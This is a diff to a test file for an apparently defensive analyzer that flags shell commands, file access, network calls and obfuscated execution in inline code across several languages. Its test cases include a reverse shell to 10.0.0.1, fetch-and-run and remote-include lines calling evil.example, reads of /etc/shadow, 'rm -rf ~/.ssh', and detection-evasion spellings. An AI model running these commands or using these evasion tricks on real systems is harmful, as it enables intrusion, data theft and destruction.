@@ -11,13 +11,18 @@ from hypothesis import strategies as st
 
 from rampartd.policy.inline import (
     LANGUAGES,
+    WORK_BUDGET,
     InlineFindings,
+    _analyze_into,
     analyze,
     inline_code,
     reads_stdin_program,
 )
+from rampartd.policy.inline.findings import Collector
+from rampartd.policy.inline.lexer import tokenize
 
 FUZZ = settings(max_examples=int(os.environ.get("FUZZ_EXAMPLES", "150")), deadline=None,
+                derandomize=True,
                 suppress_health_check=[HealthCheck.too_slow])
 
 FETCHES = "fetches code and executes it"
@@ -108,6 +113,8 @@ STDIN: list[tuple[list[str], str | None]] = [
     (["lua", "-"], "lua"), (["lua"], "lua"), (["Rscript", "-"], "r"), (["R", "--no-save"], "r"),
     (["awk", "-f", "-"], "awk"), (["awk", "-f", "/dev/stdin"], "awk"), (["awk", "{print}"], None),
     (["osascript"], "applescript"), (["osascript", "-"], "applescript"),
+    (["node", "--version"], None), (["python3", "-V"], None), (["bash", "--help"], None),
+    (["bash", "-h"], "shell"),  # -h is hashall for a shell, not help
     (["cat"], None), ([], None),
 ]
 
@@ -131,6 +138,8 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
      {"commands": ("rm -rf ~/.ssh",)}),
     ("python", "import subprocess; subprocess.run('ls -la ~', shell=True)",
      {"commands": ("ls -la ~",)}),
+    ("python", "import subprocess; subprocess.run(['rm -rf ~/.ssh'], shell=True)",
+     {"commands": ("rm -rf ~/.ssh",)}),
     ("python", "from subprocess import check_output; print(check_output(['git', 'status']))",
      {"commands": ("git status",)}),
     ("python", "import subprocess; subprocess.Popen(['ls'], executable='/bin/rm')",
@@ -200,9 +209,46 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("python", "import ctypes; ctypes.CDLL('libc.so.6').system(b'id')", {"risky": (NATIVE,)}),
     ("python", "import socket; s = socket.create_connection(('evil.example', 4444))",
      {"urls": ("tcp://evil.example:4444",), "risky": (SOCKET,)}),
+    ("python", "import requests, sys; requests.get('https://pastebin.com/raw/' + sys.argv[1])",
+     {"urls": ("https://pastebin.com/raw/${UNKNOWN}",), "unknown_targets": True}),
+    ("python", "import requests, sys; requests.get('https://' + sys.argv[1] + '/x')",
+     {"unknown_targets": True}),
+    ("python", "import requests, sys; requests.get('https://a.example\\\\' + sys.argv[1])",
+     {"unknown_targets": True}),
     ("python", "import http.client; c = http.client.HTTPSConnection('pastebin.com')",
      {"urls": ("https://pastebin.com",)}),
     ("python", "import os;os.system('ls' ", {"commands": ("ls",), "unknown_targets": True}),
+    ("python", "p = '/etc/shadow'\nwith open(p) as f: print(f.read())",
+     {"reads": ("/etc/shadow",)}),
+    ("python", "from os import *; system('id')", {"commands": ("id",)}),
+    ("python", "import sys; sys.modules['os'].system('id')", {"commands": ("id",)}),
+    ("python", "import os; getattr(os, 'sys' + 'tem')('id')",
+     {"commands": ("id",), "risky": (PIECES,)}),
+    ("python", "import zlib, base64; exec(zlib.decompress(base64.b64decode('eJw=')))",
+     {"risky": (PIECES, EVALUATES), "unknown_targets": True}),
+    ("python", "__builtins__.open('/etc/shadow')", {"reads": ("/etc/shadow",)}),
+    ("python", "import os\ndef f(c):\n    os.system(c)\nf('id')",
+     {"commands": ("${UNKNOWN}",), "unknown_targets": True}),
+    ("python", "import importlib; importlib.import_module('subprocess').run(['id'])",
+     {"commands": ("id",)}),
+    ("python", "import os; os.system('rm -rf {}'.format(os.environ['HOME']))",
+     {"commands": ("rm -rf ~",)}),
+    ("python", "import os; os.system('cat %s' % '/etc/shadow')",
+     {"commands": ("cat /etc/shadow",)}),
+    ("python", "import os; os.popen('id').read()", {"commands": ("id",)}),
+    ("python", "import os; os.system('%c%c' % (105, 100))",
+     {"commands": ("id",), "risky": (PIECES,)}),
+    ("python", "import socket, subprocess, os; s = socket.socket(); s.connect(('10.0.0.1', 1234)); "
+               "os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])",
+     {"commands": ("/bin/sh -i",), "urls": ("tcp://10.0.0.1:1234",), "risky": (FETCHES, SOCKET)}),
+    ("python", "import runpy; runpy.run_path('/tmp/x.py')", {"reads": ("/tmp/x.py",)}),
+    ("python", "import os, shlex; os.system('cat ' + shlex.quote('/tmp/a b'))",
+     {"commands": ("cat '/tmp/a b'",)}),
+    ("python", "import os, shlex; os.system(shlex.join(['rm', '-rf', '/tmp/a b']))",
+     {"commands": ("rm -rf '/tmp/a b'",)}),
+    ("python", "import sys; open('/etc/hosts', sys.argv[1])",
+     {"reads": ("/etc/hosts",), "writes": ("/etc/hosts",)}),
+    ("python", "SOURCE = 'file:///etc/passwd'", {"reads": ("/etc/passwd",)}),
     # node
     ("node", "const cp = require('child_process'); cp.execSync('rm -rf ~/.ssh')",
      {"commands": ("rm -rf ~/.ssh",)}),
@@ -239,6 +285,23 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("node", "await Deno.remove('/tmp/x', {recursive: true})", {"deletes": ("/tmp/x",)}),
     ("node", "const net = require('net'); net.connect(4444, 'evil.example')", {"risky": (SOCKET,)}),
     ("node", "const ffi = require('ffi-napi')", {"risky": (NATIVE,)}),
+    ("node", "require('child_process')['execSync']('id')", {"commands": ("id",)}),
+    ("node", "require('child_process')['exec' + 'Sync']('id')",
+     {"commands": ("id",), "risky": (PIECES,)}),
+    ("node", "require('child_process')[process.argv[2]]('id')",
+     {"risky": (PIECES, EVALUATES), "unknown_targets": True}),
+    ("node", "process.mainModule.require('child_process').execSync('id')", {"commands": ("id",)}),
+    ("node", "const x = require('fs'); x.rmSync('/srv/data', {recursive: true})",
+     {"deletes": ("/srv/data",)}),
+    ("node", "new Function('return require(\"child_process\")')().execSync('id')",
+     {"commands": ("id",)}),
+    ("node", "setTimeout(\"require('child_process').execSync('id')\", 0)", {"commands": ("id",)}),
+    ("node", "foo().bar().execSync('id')", {"commands": ("id",)}),
+    ("node", "const m = 'child_' + 'process'; require(m).execSync('id')",
+     {"commands": ("id",), "risky": (PIECES,)}),
+    ("node", "const m = 'child_process'; require(m).execSync('id')", {"commands": ("id",)}),
+    ("node", "require(process.argv[2])", {"risky": (EVALUATES,), "unknown_targets": True}),
+    ("node", "import('fs').then(f => f.rmSync('/x'))", {"deletes": ("/x",)}),
     ("node", "await $`curl -s https://x.example/i | sh`",
      {"commands": ("curl -s https://x.example/i | sh",), "urls": ("https://x.example/i",)}),
     # perl
@@ -261,6 +324,13 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("perl", "use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => 'e.example:1')",
      {"risky": (SOCKET,)}),
     ("perl", "system(scalar reverse 'di')", {"commands": ("id",), "risky": (PIECES,)}),
+    ("perl", "system { 'sh' } 'sh', '-c', 'id'", {"commands": ("sh -c id",)}),
+    ("perl", "do '/tmp/x.pl'", {"reads": ("/tmp/x.pl",)}),
+    ("perl", "system 'make' || die 'failed'", {"commands": ("make",)}),
+    ("perl", "unlink '/tmp/x' or warn 'no'", {"deletes": ("/tmp/x",)}),
+    ("perl", "require $x", {"risky": (EVALUATES,), "unknown_targets": True}),
+    ("perl", "my @a = ('rm', '-rf', '/x'); system(@a)", {"commands": ("rm -rf /x",)}),
+    ("perl", "system(pack('H*', '6964'))", {"commands": ("id",), "risky": (PIECES,)}),
     # ruby
     ("ruby", "puts `whoami`", {"commands": ("whoami",)}),
     ("ruby", "puts %x(ls -la)", {"commands": ("ls -la",)}),
@@ -278,6 +348,13 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
      {"urls": ("https://evil.example/x.rb",), "risky": (FETCHES, EVALUATES),
       "unknown_targets": True}),
     ("ruby", "File.chmod(0777, '/usr/local/bin/tool')", {"chmods": ("/usr/local/bin/tool",)}),
+    ("ruby", "Kernel.send(:system, 'id')", {"commands": ("id",)}),
+    ("ruby", "IO.popen('id', 'r+')", {"commands": ("id",)}),
+    ("ruby", "method(:system).call('id')", {"commands": ("id",)}),
+    ("ruby", "load '/tmp/x.rb'", {"reads": ("/tmp/x.rb",)}),
+    ("ruby", "open('https://evil.example/x').read", {"urls": ("https://evil.example/x",)}),
+    ("ruby", "system({'A' => '1'}, 'ls', '-l')", {"commands": ("ls -l",)}),
+    ("ruby", "send('exec', 'id')", {"commands": ("id",)}),
     # php
     ("php", "system('id');", {"commands": ("id",)}),
     ("php", "echo `ls -la`;", {"commands": ("ls -la",)}),
@@ -293,6 +370,20 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
      {"commands": ("/bin/sh -i <&3 >&3 2>&3",), "urls": ("evil.example",),
       "risky": (FETCHES, SOCKET)}),
     ("php", "chmod('/tmp/x', 0777);", {"chmods": ("/tmp/x",)}),
+    ("php", "exec('ls -la', $out, $rc);", {"commands": ("ls -la",)}),
+    ("php", "$p = popen('id', 'r');", {"commands": ("id",)}),
+    ("php", "proc_open(['rm', '-rf', '/x'], $d, $pipes);", {"commands": ("rm -rf /x",)}),
+    ("php", "pcntl_exec('/bin/rm', ['-rf', '/x']);", {"commands": ("/bin/rm -rf /x",)}),
+    ("php", "call_user_func('system', 'id');", {"commands": ("id",)}),
+    ("php", "call_user_func_array('system', ['id']);", {"commands": ("id",)}),
+    ("php", "array_map('unlink', ['/a', '/b']);", {"deletes": ("/a", "/b")}),
+    ("php", "$f = 'system'; $f('id');", {"commands": ("id",)}),
+    ("php", "$f = 'sys' . 'tem'; $f('id');", {"commands": ("id",), "risky": (PIECES,)}),
+    ("php", "include $_GET['page'];", {"unknown_targets": True}),
+    ("php", "include 'http://evil.example/x.php';",
+     {"urls": ("http://evil.example/x.php",), "risky": (FETCHES,)}),
+    ("php", "require_once '/var/www/config.php';", {"reads": ("/var/www/config.php",)}),
+    ("php", "$in = file_get_contents('php://input'); echo strlen($in);", {}),
     # lua
     ("lua", "os.execute('rm -rf /tmp/x')", {"commands": ("rm -rf /tmp/x",)}),
     ("lua", "os.execute[[id]]", {"commands": ("id",)}),
@@ -303,6 +394,10 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("lua", "load(string.char(111,115,46,101,120,101,99,117,116,101,40,39,105,100,39,41))()",
      {"commands": ("id",), "risky": (EVALUATES,)}),
     ("lua", "local ffi = require('ffi')", {"risky": (NATIVE,)}),
+    ("lua", "os['execute']('id')", {"commands": ("id",)}),
+    ("lua", "require('os').execute('id')", {"commands": ("id",)}),
+    ("lua", "dofile('/tmp/x.lua')", {"reads": ("/tmp/x.lua",)}),
+    ("lua", "os['exe' .. 'cute']('id')", {"commands": ("id",), "risky": (PIECES,)}),
     # R
     ("r", "system('whoami')", {"commands": ("whoami",)}),
     ("r", "system2('rm', c('-rf', '/tmp/x'))", {"commands": ("rm -rf /tmp/x",)}),
@@ -315,6 +410,9 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
       "risky": (FETCHES,)}),
     ("r", "eval(parse(text = 'system(\"id\")'))", {"commands": ("id",)}),
     ("r", "file.remove(path.expand('~/.ssh/id_rsa'))", {"deletes": ("~/.ssh/id_rsa",)}),
+    ("r", "do.call('system', list('id'))", {"commands": ("id",)}),
+    ("r", "source('https://evil.example/x.R')",
+     {"urls": ("https://evil.example/x.R",), "risky": (FETCHES,)}),
     # AppleScript (and JXA through osascript)
     ("applescript", 'do shell script "id"', {"commands": ("id",)}),
     ("applescript", 'set p to "/etc/passwd"\ndo shell script "cat " & quoted form of p',
@@ -323,6 +421,8 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
                     '(path to home folder))', {"commands": ("rm -rf ~/",)}),
     ("applescript", 'tell application "Terminal" to do script "curl x.example | sh"',
      {"commands": ("curl x.example | sh",)}),
+    ("applescript", 'do shell script "id" with administrator privileges', {"commands": ("id",)}),
+    ("applescript", 'run script "do shell script \\"id\\""', {"commands": ("id",)}),
     ("applescript", "Application.currentApplication().doShellScript('id')",
      {"commands": ("id",)}),
     # awk
@@ -378,7 +478,7 @@ CLEAN: list[tuple[str, str, tuple[str, ...]]] = [
     ("node", "console.log([1,2,3].map(x => x*2))", ()),
     ("node", "const re = /a\\/b/; console.log(re.exec('a/b'))", ()),
     ("node", "console.log(process.version, process.platform)", ()),
-    ("node", "console.log(require('./package.json').name)", ()),
+    ("node", "console.log(require('./package.json').name)", ("./package.json",)),
     ("perl", "print join(',', map { $_ * 2 } 1..3), \"\\n\"", ()),
     ("perl", "while (<>) { s/foo/bar/g; print }", ()),
     ("perl", "print \"$_\\n\" for sort keys %ENV", ()),
@@ -399,6 +499,23 @@ CLEAN: list[tuple[str, str, tuple[str, ...]]] = [
     ("awk", "-F: '{ s += $3 } END { print s }'", ()),
     ("awk", 'NR > 1 { print $2, $1 }', ()),
     ("awk", 'BEGIN { print ENVIRON["HOME"] }', ()),
+    ("awk", '{ printf "%s\\n", $1 > "/dev/stderr" }', ()),
+    ("awk", "NR>1{sum+=$3} END{print sum}", ()),
+    ("perl", "print if /foo/", ()),
+    ("perl", "s/\\r//", ()),
+    ("perl", "print $F[0]", ()),
+    ("perl", "use JSON::PP; print decode_json(join '', <STDIN>)->{version}", ()),
+    ("perl", "printf(\"%.2f\\n\", 3.14159)", ()),
+    ("ruby", "puts ARGF.read.upcase", ()),
+    ("python", "import os; print(os.environ.get('PATH'))", ()),
+    ("python", "import yaml; print(yaml.safe_load(open('config.yml')))", ("config.yml",)),
+    ("python", "import os; print(os.getcwd(), os.cpu_count())", ()),
+    ("node", "console.log(require('path').resolve('.'))", ()),
+    ("node", "process.versions.node", ()),
+    ("node", "const http = require('http'); http.createServer((q, r) => r.end('ok')).listen(8080)",
+     ()),
+    ("php", "echo date('Y-m-d');", ()),
+    ("lua", "print(os.date('%Y'))", ()),
 ]
 
 
@@ -410,6 +527,64 @@ def test_everyday_code_is_clean(lang: str, code: str, reads: tuple[str, ...]) ->
     assert f.reads == reads
 
 
+# ---- the lexer ------------------------------------------------------------------------------
+
+def _strings(code: str, lang: str) -> list[str]:
+    return ["".join(text for _, text in tok.pieces) for tok in tokenize(code, lang)[0]
+            if tok.kind in ("str", "cmd")]
+
+
+@pytest.mark.parametrize(("lang", "code", "strings"), [
+    ("node", r""" "a\n\x41\u0042\u{43}\101" 'b\'c' """, ["a\nABCA", "b'c"]),
+    ("perl", r"""q(a(b)c) qq{x{y}} 'it\'s' "t\tx" s/a/b/g m{x} y/a-z/A-Z/ qx{ls}""",
+     ["a(b)c", "x{y}", "it's", "t\tx", "ls"]),
+    ("ruby", r"""%q(x) %Q{y} 'a\nb' "c\nd" %x(id)""", ["x", "y", "a\\nb", "c\nd", "id"]),
+    ("lua", "[==[a]]b]==] 'x' [[y]]", ["a]]b", "x", "y"]),
+    ("node", 'x = 10 / 2 / 1; y = /re"x/; z = "s"', ["s"]),
+    ("php", "$x = <<<EOT\nit's\nEOT;\necho 'y';", ["it's", "y"]),
+    ("perl", "print <<'EOF';\nit's\nEOF\nprint 'z';", ["it's", "z"]),
+])
+def test_lexer_strings(lang: str, code: str, strings: list[str]) -> None:
+    assert _strings(code, lang) == strings
+
+
+@pytest.mark.parametrize(("lang", "code"), [
+    ("node", "// require('child_process').execSync('id')\n/* system('rm') */ console.log(1)"),
+    ("perl", "# system('id')\nprint 1"),
+    ("lua", "-- os.execute('id')\n--[[ os.execute('x') ]] print(1)"),
+    ("applescript", '-- do shell script "id"\n(* do shell script "x" *) display dialog "hi"'),
+    ("php", "# system('id');\n// system('x');\n/* exec('y') */ echo 1;"),
+    ("ruby", "x = 10 % 3; puts x"),
+    ("ruby", "a = b ? 'x' : 'y'; puts a"),
+    ("perl", "my @a = (1) x 3; print 1 << 2"),
+])
+def test_comments_and_operators_are_not_code(lang: str, code: str) -> None:
+    assert _fields(analyze(lang, code)) == {}
+
+
+@pytest.mark.parametrize(("lang", "code"), [
+    # a `/` after `)` or `}` may divide or start a regex: both readings are scanned
+    ("node", "x = {} / 1; require('child_process').execSync('id'); z = 1 / 2"),
+    ("node", "if (x) /'/.test(s) && require('child_process').execSync('id') // '"),
+    # heredoc bodies are strings, and `<<X` may also be a shift
+    ("perl", "print <<'EOF';\nit's\nEOF\nsystem('id');"),
+    ("perl", "print <<EOF . <<\"END\";\na'\nEOF\nb\"\nEND\nsystem('id');"),
+    ("perl", "print 1<<X; system('id')"),
+    ("ruby", "s = <<~EOS\n  it's\n  EOS\nsystem('id')"),
+    ("php", "$x = <<<EOT\nit's\nEOT;\nsystem('id');"),
+    # Ruby's character literal ?' is no quote
+    ("ruby", "x = ?'; system('id') #'"),
+    # documentation is not code, and `=word` at a line start may be an assignment
+    ("perl", "=pod\nit's\n=cut\nsystem('id');"),
+    ("perl", "my $x\n=system('id');"),
+    ("ruby", "=begin\nit's\n=end\nsystem('id')"),
+    # PHP outside its tags is output text
+    ("php", "Hello, it's <?php system('id'); ?> and it's"),
+])
+def test_ambiguous_spellings_cannot_hide_a_call(lang: str, code: str) -> None:
+    assert analyze(lang, code).commands == ("id",)
+
+
 # ---- literals, bounds, robustness ---------------------------------------------------------
 
 def test_unclassified_path_and_url_literals_are_reported() -> None:
@@ -418,6 +593,22 @@ def test_unclassified_path_and_url_literals_are_reported() -> None:
     assert f.urls == ("https://pastebin.com/raw/x",)
     g = analyze("node", "const t = '/etc/shadow'; const u = \"https:\\\\pastebin.com\\\\x\"")
     assert g.reads == ("/etc/shadow",) and g.urls == ("https:\\pastebin.com\\x",)
+
+
+@pytest.mark.parametrize(("lang", "code", "field", "value"), [
+    ("node", "const u = 'https://' + 'pastebin.com' + '/raw'", "urls", "https://pastebin.com/raw"),
+    ("php", "$u = 'https://' . 'evil.example';", "urls", "https://evil.example"),
+    ("ruby", "u = '/etc/' + 'shadow'", "reads", "/etc/shadow"),
+    ("lua", "local p = '/etc/' .. 'passwd'", "reads", "/etc/passwd"),
+    ("python", "u = 'https://' + 'pastebin.com'", "urls", "https://pastebin.com"),
+])
+def test_concatenated_literals_count_as_one(lang: str, code: str, field: str, value: str) -> None:
+    assert getattr(analyze(lang, code), field) == (value,)
+
+
+def test_an_ambiguous_authority_yields_both_hosts() -> None:
+    f = analyze("node", "fetch('https://github.com\\\\@pastebin.com/x')")
+    assert f.urls == ("https://github.com\\@pastebin.com/x", "https://github.com/")
 
 
 def test_literals_in_commands_are_not_double_counted() -> None:
@@ -487,11 +678,14 @@ CODEISH = st.lists(st.sampled_from([*"abrm -/~$(){}[]`'\"\\;&|<>#*?=\n\t!0123xe.
 @FUZZ
 @given(st.sampled_from([*LANGUAGES, "cobol"]), st.one_of(st.text(max_size=400), CODEISH))
 def test_analyze_never_raises(lang: str, code: str) -> None:
+    # The inner analysis, which has no catch-all: a bug shows here as an exception.
+    _analyze_into(lang, code, Collector(), 0, [WORK_BUDGET])
     f = analyze(lang, code)
     assert isinstance(f, InlineFindings)
     for field in ("commands", "reads", "writes", "deletes", "chmods", "urls"):
         values = getattr(f, field)
         assert len(values) <= 256 and all(isinstance(v, str) and v for v in values)
+        assert not any("\x00" in v for v in values)  # unknown parts never leak as text
 
 
 ARGV_WORDS = st.sampled_from(["python3", "perl", "node", "ruby", "php", "lua", "Rscript", "R",
